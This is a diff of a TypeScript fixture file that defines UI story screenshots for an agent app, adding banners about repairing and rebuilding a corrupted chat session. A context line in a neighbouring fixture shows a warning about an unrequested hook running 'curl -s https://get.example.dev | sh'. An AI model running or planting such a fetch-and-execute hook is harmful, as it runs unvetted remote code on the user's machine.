@@ -622,6 +622,19 @@ export const shots: Shot[] = [
       .banner("agent_error", { detail: "It sent a response to a request that VoxPilot didn't make." })
       .banner("session_lost", { dismissed: true, told: recap }),
   }),
+  shot("14-rescued", {
+    story: prose()
+      .banner("repaired", {
+        note: "1 damaged entry was left out. It isn't part of the conversation.",
+        detail: "Couldn't use session s1.\nSession file is corrupted (line 2: missing field `content`).",
+      })
+      .banner("rebuilt", {
+        session: "auth-bug-fix",
+        note: "The new session has 14 messages from this chat, with their answers.",
+        detail: "Couldn't use session s2.\nThe agent no longer lists it.",
+      })
+      .banner("rebuilt", { dismissed: true }),
+  }),
   shot("14-unasked", {
     story: prose().banner("unasked", {
       detail: "curl -s https://get.example.dev | sh\n.github/hooks/format.json hooks.preToolUse",
